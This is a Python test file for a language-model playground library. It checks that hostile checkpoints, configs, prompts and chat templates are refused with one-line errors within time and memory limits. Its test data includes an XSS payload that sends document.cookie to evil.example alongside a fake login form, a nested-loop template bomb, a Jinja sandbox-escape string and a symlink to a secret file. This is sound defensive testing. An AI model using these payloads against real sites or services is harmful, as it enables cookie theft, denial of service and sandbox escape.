"""Hostile files and requests, as a stranger would send them to a public Space (issue 16).

Each case must be refused with one line, quickly (the issue asks for 2 s; CI machines are noisy, so
the assertion allows 5 s and the measured time is printed), and without the process growing: peak
RSS (VmHWM, reset before each case through /proc/self/clear_refs) stays within 300 MiB of what the
process held before, a seventh of the 2 GiB memory budget the cases are refused under. (Not an absolute
size: in the whole suite this process arrives holding what the tests before it left to the allocator,
2.9 GiB in one CI run after the real Gemma 3's tests, 1.5 GiB in another run here.)
"""

from __future__ import annotations

import json
import math
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file

import playground
from playground.checkpoints.expected import state_layout
from playground.checkpoints.families.transformer import transformer_config
from playground.checkpoints.limits import Limits
from playground.config import ModelConfig
from playground.errors import ChatTemplateError, CheckpointError, PlaygroundError, PromptError
from playground.generation.budget import BudgetError
from playground.generation.plan import plan
from tests.hf_tiny import llama_like, save_decoder
from tests.safetensors_surgery import write_raw
from tests.ui_fixtures import save_tiny_decoder

ROOT = Path(__file__).resolve().parents[2]
MIB, GIB = 2**20, 2**30
BUDGET = 2 * GIB
LIMITS = Limits(max_file_bytes=8 * GIB, memory_budget_bytes=BUDGET)
SECONDS = 5.0  # the issue's 2 s, with room for a busy CI machine
GROWTH = 300 * MIB
BOMB = "{% for i in range(100000) %}{% for j in range(100000) %}{{ i }}{{ j }}{% endfor %}{% endfor %}"
HTML = '<img src=x onerror="fetch(\'//evil.example/?c=\'+document.cookie)"><form action="https://evil.example/login"><input type=password name=p></form>'


# --- measuring ---------------------------------------------------------------------------------


def _status(field: str) -> int:
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
    return 0


def refused(case: str, action: Callable[[], object], error: type[Exception] = PlaygroundError, *fragments: str) -> str:
    """Run `action`, which must raise `error` with one line containing `fragments`, fast and without
    growing the process; returns the message."""
    rss_before = _status("VmRSS")
    try:
        with open("/proc/self/clear_refs", "w") as f:
            f.write("5")  # reset VmHWM (the peak) to the current RSS
        peak_known = True
    except OSError:
        peak_known = False
    started = time.perf_counter()
    with pytest.raises(error) as caught:
        action()
    seconds = time.perf_counter() - started
    peak = _status("VmHWM") if peak_known else _status("VmRSS")
    message = str(caught.value)
    print(f"\nhostile case {case}: refused in {seconds:.3f} s, peak RSS {peak / MIB:.0f} MiB (+{(peak - rss_before) / MIB:.0f}): {message}")
    assert message and "\n" not in message and "Traceback" not in message
    for fragment in fragments:
        assert fragment in message, message
    assert seconds < SECONDS, f"{case} took {seconds:.1f} s"
    assert peak - rss_before < GROWTH, f"{case} grew the process by {(peak - rss_before) / MIB:.0f} MiB"
    return message


def _cli(*args: str | bytes, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "playground", *args], capture_output=True, cwd=ROOT, timeout=300,
                          env={**os.environ, **(env or {})})


def _one_line_exit_2(result: subprocess.CompletedProcess, *fragments: str) -> str:
    err = result.stderr.decode("utf-8", "replace").strip()
    assert result.returncode == 2, err
    assert len(err.splitlines()) == 1 and err.startswith("error: ") and "Traceback" not in err, err
    for fragment in fragments:
        assert fragment in err, err
    return err


def _random_checkpoint(path: Path, config: ModelConfig, metadata: dict[str, str] | None = None) -> Path:
    """Our own format, written tensor by tensor from the config's state layout: no module is built
    (building one of these configs for real is exactly what must never happen)."""
    generator = torch.Generator().manual_seed(0)
    tensors = {name: torch.randn(shape, generator=generator) * 0.02 for name, shape in state_layout(config).shapes().items()}
    save_file(tensors, str(path), metadata={"format": "playground", "config": config.to_json(), **(metadata or {})})
    return path


# --- the issue's files -------------------------------------------------------------------------


def test_a_1165_byte_file_declaring_100000_layers_is_refused_before_anything_is_built(tmp_path):
    config = {"family": "llama", "vocab_size": 4, "d_model": 2, "n_layers": 100_000, "n_heads": 1, "d_ff": 2}
    path = tmp_path / "tiny-but-huge.safetensors"
    header = {"__metadata__": {"format": "playground", "config": json.dumps(config), "provenance": ""},
              "embed.weight": {"dtype": "F32", "shape": [4, 2], "data_offsets": [0, 32]}}
    write_raw(path, header, bytes(32))
    header["__metadata__"]["provenance"] = "x" * (1165 - path.stat().st_size)  # the issue's exact size
    write_raw(path, header, bytes(32))
    assert path.stat().st_size == 1165
    refused("100,000 layers", lambda: playground.load_model(path, limits=LIMITS), CheckpointError,
            "declares 100,000 layers", "the file holds 8 parameters in 1 tensors")
    _one_line_exit_2(_cli("info", "--model", str(path)), "declares 100,000 layers")


def test_a_small_decoder_with_a_million_positions_loads_but_a_huge_request_is_refused(tmp_path):
    config = ModelConfig(family="llama", vocab_size=1000, d_model=64, n_layers=14, n_heads=8, n_kv_heads=8,
                         head_dim=64, d_ff=64, max_positions=1_048_576, bos_token_id=1, eos_token_id=2)
    path = _random_checkpoint(tmp_path / "million.safetensors", config)
    assert 7 * MIB < path.stat().st_size < 9 * MIB  # the issue's 8 MiB decoder
    lm = playground.load_model(path, limits=LIMITS)
    assert lm.limits == LIMITS and lm.config.max_positions == 1_048_576
    prompt = [3 + i % 900 for i in range(8000)]
    beams = playground.GenerationConfig(max_new_tokens=32, num_beams=8)
    message = refused("beam 8 x 8,000 tokens", lambda: playground.generate_all(lm, prompt, beams), BudgetError,
                      "beam 8 × (8,000-token prompt + 32 new tokens) needs ", "the budget is 2.0 GiB",
                      "use fewer beams")
    # 2 · 14 layers · 8 beams · 8 KV heads · 8,032 positions · 64 · 4 bytes, + the one-row prefill cache
    kv = 2 * 14 * 8 * 8 * 8032 * 64 * 4 + 2 * 14 * 8 * 8000 * 64 * 4
    assert f"kv cache {kv / GIB:.1f} GiB" in message
    refused("streaming generate", lambda: playground.generate(lm, prompt, beams), BudgetError, "needs")
    # The same prompt greedily fits (plan only: no forward pass is run here).
    assert plan(lm, prompt, playground.GenerationConfig(max_new_tokens=32)).max_length == 8032
    ids = ",".join(map(str, prompt))
    result = _cli("generate", "--model", str(path), "--input-ids", ids, "--num-beams", "8",
                  env={"PLAYGROUND_MEMORY_BUDGET_BYTES": str(BUDGET)})
    _one_line_exit_2(result, "beam 8 × (8,000-token prompt", "the budget is 2.0 GiB")


def test_a_48_mib_transformer_with_262144_positions_is_refused_before_its_tables_exist(tmp_path):
    config = transformer_config(1000, d_model=896, n_layers=1, n_encoder_layers=1, n_heads=8, d_ff=512,
                                max_positions=262_144)
    path = _random_checkpoint(tmp_path / "positions.safetensors", config)
    assert 44 * MIB < path.stat().st_size < 50 * MIB
    tables = 2 * 262_144 * 896 * 4  # the encoder's and the decoder's sinusoidal tables, float32
    message = refused("262,144 positions", lambda: playground.load_model(path, limits=LIMITS), CheckpointError,
                      "of position tables", "memory budget is 2.0 GiB", "fewer max_positions")
    assert f"{tables / GIB:.1f} GiB of position tables" in message


def test_a_chat_template_bomb_is_refused_in_python_and_in_the_cli(tmp_path):
    folder = save_tiny_decoder(tmp_path / "bomb")
    config = json.loads((folder / "tokenizer_config.json").read_text())
    config["chat_template"] = BOMB
    (folder / "tokenizer_config.json").write_text(json.dumps(config))
    lm = playground.load_model(folder, limits=LIMITS)
    assert lm.chat_template_available
    # Whichever bound it reaches first on this machine: 200,000 steps or 1 s.
    refused("chat template bomb", lambda: lm.tokenize("Hi", chat=True), ChatTemplateError,
            "the chat template ", "turn chat off")
    chat = playground.GenerationConfig(max_new_tokens=2, chat=True)
    refused("chat template bomb via generate_all", lambda: playground.generate_all(lm, "Hi", chat), ChatTemplateError)
    _one_line_exit_2(_cli("generate", "--model", str(folder), "--prompt", "Hi", "--chat"), "chat template")


def test_html_in_a_config_stays_data(tmp_path):
    config = ModelConfig(family=HTML, vocab_size=31, d_model=16, n_layers=1, n_heads=2, d_ff=24,
                         extra={"note": HTML, HTML: "key"})
    path = _random_checkpoint(tmp_path / "html.safetensors", config)
    lm = playground.load_model(path, limits=LIMITS)
    info = lm.info()
    assert info["family"] == HTML and info["config"]["extra"]["note"] == HTML
    assert json.loads(json.dumps(info))["family"] == HTML  # serialisable as it is, nothing executed or altered
    texts = lm.checkpoint_texts()
    assert texts["config.family"] == HTML and texts["config.extra.note"] == HTML
    assert HTML in {texts[k] for k in texts if k.endswith("#key")}
    assert texts["path.name"] == "html.safetensors"


# --- issue point 9: one line each --------------------------------------------------------------


@pytest.fixture(scope="module")
def llama_dir(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("llama")
    save_decoder(directory, "llama", llama_like(num_hidden_layers=1, hidden_size=16, intermediate_size=24,
                                                num_attention_heads=2, num_key_value_heads=1, vocab_size=31))
    return directory


def _variant(base: Path, target: Path, change: dict) -> Path:
    shutil.copytree(base, target)
    config = json.loads((target / "config.json").read_text())
    config.update(change)
    (target / "config.json").write_text(json.dumps(config))
    return target


MEANINGLESS = {
    "rope factor not a number": ({"rope_parameters": {"rope_type": "linear", "factor": "x", "rope_theta": 1e4}},
                                 "rope_scaling 'factor' is 'x'"),
    "rope factor 0": ({"rope_parameters": {"rope_type": "linear", "factor": 0, "rope_theta": 1e4}},
                      "rope_scaling 'factor' is 0"),
    "rope factor inf": ({"rope_parameters": {"rope_type": "linear", "factor": float("inf"), "rope_theta": 1e4}},
                        "rope_scaling 'factor' is inf"),
    "llama3 high <= low": ({"rope_parameters": {"rope_type": "llama3", "factor": 8.0, "low_freq_factor": 4.0,
                                                "high_freq_factor": 1.0, "original_max_position_embeddings": 64,
                                                "rope_theta": 1e4}}, "must exceed low_freq_factor"),
    "model_type a list": ({"model_type": ["llama"]}, "model_type ['llama'] is not supported"),
    "sliding_window 0": ({"model_type": "mistral", "sliding_window": 0}, "config field 'sliding_window' | 0"),
    "sliding_window -4": ({"model_type": "mistral", "sliding_window": -4}, "config field 'sliding_window' | -4"),
    "rope_theta 0": ({"rope_parameters": {"rope_type": "default", "rope_theta": 0}}, "config field 'rope_theta' | 0.0"),
}


@pytest.mark.parametrize("case", list(MEANINGLESS))
def test_meaningless_config_values_are_refused_by_name(case, llama_dir, tmp_path):
    change, fragment = MEANINGLESS[case]  # " | " separates what the message must all contain
    target = _variant(llama_dir, tmp_path / "case", change)
    refused(case, lambda: playground.load_model(target, limits=LIMITS), CheckpointError, *fragment.split(" | "))


@pytest.mark.parametrize("field,value,fragment", [
    ("attention_scale", 1e300, "'attention_scale' is 1e+300; it multiplies q·k and must be in (0, 1000]"),
    ("attention_scale", 0.0, "'attention_scale' is 0.0"),
    ("attention_scale", -0.125, "'attention_scale' is -0.125"),
    ("sinusoidal_base", -1.0, "'sinusoidal_base' is -1.0"),
])
def test_meaningless_values_in_our_own_format_are_refused_by_name(field, value, fragment, tmp_path):
    good = ModelConfig(family="transformer", vocab_size=31, d_model=16, n_layers=1, n_heads=2, d_ff=24)
    path = _random_checkpoint(tmp_path / "own.safetensors", good)
    header = json.loads(path.read_bytes()[8:8 + int.from_bytes(path.read_bytes()[:8], "little")])
    config = json.loads(header["__metadata__"]["config"])
    config[field] = value
    header["__metadata__"]["config"] = json.dumps(config)
    payload = path.read_bytes()[8 + int.from_bytes(path.read_bytes()[:8], "little"):]
    write_raw(path, header, payload)
    refused(field, lambda: playground.load_model(path, limits=LIMITS), CheckpointError, fragment)


OUTSIDE_VOCAB = {  # special ids a vocabulary of 31 tokens lacks: transformers loads these (tokens that never occur)
    "eos outside": ({"eos_token_id": 31}, {"eos_token_id": 31}),
    "eos list, first bad": ({"eos_token_id": [-1, 2]}, {"eos_token_id.0": -1}),
    "eos list, last bad": ({"eos_token_id": [2, 40]}, {"eos_token_id.1": 40}),
    "bos negative": ({"bos_token_id": -5}, {"bos_token_id": -5}),
    "pad huge": ({"pad_token_id": 10**6}, {"pad_token_id": 10**6}),
}


@pytest.mark.parametrize("case", list(OUTSIDE_VOCAB))
def test_special_ids_outside_the_vocabulary_load_and_are_reported(case, llama_dir, tmp_path):
    change, reported = OUTSIDE_VOCAB[case]
    lm = playground.load_model(_variant(llama_dir, tmp_path / "case", change), limits=LIMITS)
    assert lm.info()["special_ids_outside_vocab"] == reported


def test_attention_scale_within_bounds_still_loads(tmp_path):
    for scale in (1.0, 0.0078125, 1000.0):  # T5, Granite-style small multipliers, the bound itself
        config = ModelConfig(family="x", vocab_size=31, d_model=16, n_layers=1, n_heads=2, d_ff=24, attention_scale=scale)
        lm = playground.load_model(_random_checkpoint(tmp_path / f"s{scale}.safetensors", config), limits=LIMITS)
        assert lm.config.scale == scale


def test_non_string_weight_map_values_are_one_line(llama_dir, tmp_path):
    target = tmp_path / "sharded"
    target.mkdir()
    shutil.copy(llama_dir / "config.json", target)
    for bad in ({"a": ["model.safetensors"]}, {"a": 3, "b": "model.safetensors"}, {"a": None}):
        (target / "model.safetensors.index.json").write_text(json.dumps({"weight_map": bad}))
        refused("weight_map", lambda: playground.load_model(target, limits=LIMITS), CheckpointError,
                "'weight_map' values must be shard file names (strings)")


@pytest.mark.parametrize("text,fragment", [
    ("abc\ud800def", "unpaired surrogate U+D800 at character 3"),
    ("\udfff", "unpaired surrogate U+DFFF at character 0"),
    ("a\x00b", "NUL character (U+0000) at character 1"),
])
def test_prompts_that_are_not_text_are_one_line(text, fragment):
    lm = playground.load_model(ROOT / "weights" / "tiny-lm", limits=LIMITS)
    refused("prompt", lambda: lm.tokenize(text), PromptError, fragment)
    refused("prompt via generate_all", lambda: playground.generate_all(lm, text, playground.GenerationConfig(max_new_tokens=1)),
            PromptError, fragment)


def test_undecodable_prompt_bytes_in_the_cli_are_one_line():
    result = _cli("generate", "--model", "weights/tiny-lm", "--prompt", b"caf\xe9 au lait")  # Latin-1, not UTF-8
    _one_line_exit_2(result, "unpaired surrogate U+DCE9 at character 3")


@pytest.mark.skipif(torch.cuda.is_available(), reason="this machine has a CUDA GPU")
def test_device_cuda_without_a_gpu_is_one_line():
    _one_line_exit_2(_cli("info", "--model", "weights/tiny-lm", "--device", "cuda"), "no CUDA GPU is available here")
    _one_line_exit_2(_cli("generate", "--model", "weights/tiny-lm", "--prompt", "Hi", "--device", "cuda:3"), "cuda")
    _one_line_exit_2(_cli("info", "--model", "weights/tiny-lm", "--device", "quantum"), "not a device name")


def test_a_chat_template_sandbox_violation_in_the_cli_is_one_line(tmp_path):
    folder = save_tiny_decoder(tmp_path / "escape")
    config = json.loads((folder / "tokenizer_config.json").read_text())
    config["chat_template"] = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    (folder / "tokenizer_config.json").write_text(json.dumps(config))
    _one_line_exit_2(_cli("generate", "--model", str(folder), "--prompt", "Hi", "--chat"),
                     "the chat template tried something the sandbox forbids")


def test_a_symlinked_weights_file_does_not_leak_its_target(llama_dir, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"TOPSECRET" + b"s" * 4000)
    target = tmp_path / "linked"
    target.mkdir()
    shutil.copy(llama_dir / "config.json", target)
    (target / "model.safetensors").symlink_to(secret)
    message = refused("symlink", lambda: playground.load_model(target, limits=LIMITS), CheckpointError,
                      "linked/model.safetensors is a symbolic link to a file outside the checkpoint folder")
    first8 = int.from_bytes(b"TOPSECRE", "little")
    for leak in ("TOPSECRE", str(first8), "4009", "4,009", str(secret)):
        assert leak not in message
    (target / "model.safetensors").unlink()
    (target / "model.safetensors").symlink_to(llama_dir / "model.safetensors")  # outside too: refused
    refused("symlink to weights", lambda: playground.load_model(target, limits=LIMITS), CheckpointError, "symbolic link")
    # A Hugging Face cache snapshot links into its own blobs folder: that is inside.
    repo = tmp_path / "models--org--name"
    (repo / "blobs").mkdir(parents=True)
    snapshot = repo / "snapshots" / ("0" * 40)
    snapshot.mkdir(parents=True)
    for name in ("config.json", "model.safetensors"):
        shutil.copy(llama_dir / name, repo / "blobs" / name)
        (snapshot / name).symlink_to(Path("../..") / "blobs" / name)
    assert playground.load_model(snapshot, limits=LIMITS).config.n_layers == 1


def test_a_header_listing_too_many_tensors_is_refused_while_parsing(tmp_path):
    path = tmp_path / "many.safetensors"
    header = {f"t{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(200_000)}
    write_raw(path, header, b"")
    refused("200,000 tensors", lambda: playground.load_model(path, limits=LIMITS), CheckpointError,
            "more than 16,384 tensors")


def test_limits_from_the_environment_are_validated(monkeypatch):
    monkeypatch.setenv("PLAYGROUND_MEMORY_BUDGET_BYTES", "2GB")
    with pytest.raises(PlaygroundError, match="PLAYGROUND_MEMORY_BUDGET_BYTES must be a whole number of bytes"):
        Limits.default()
    monkeypatch.setenv("PLAYGROUND_MEMORY_BUDGET_BYTES", "2_147_483_648")
    assert Limits.default().memory_budget_bytes == 2**31
    assert math.isclose(Limits.default().max_file_bytes, 8 * GIB)
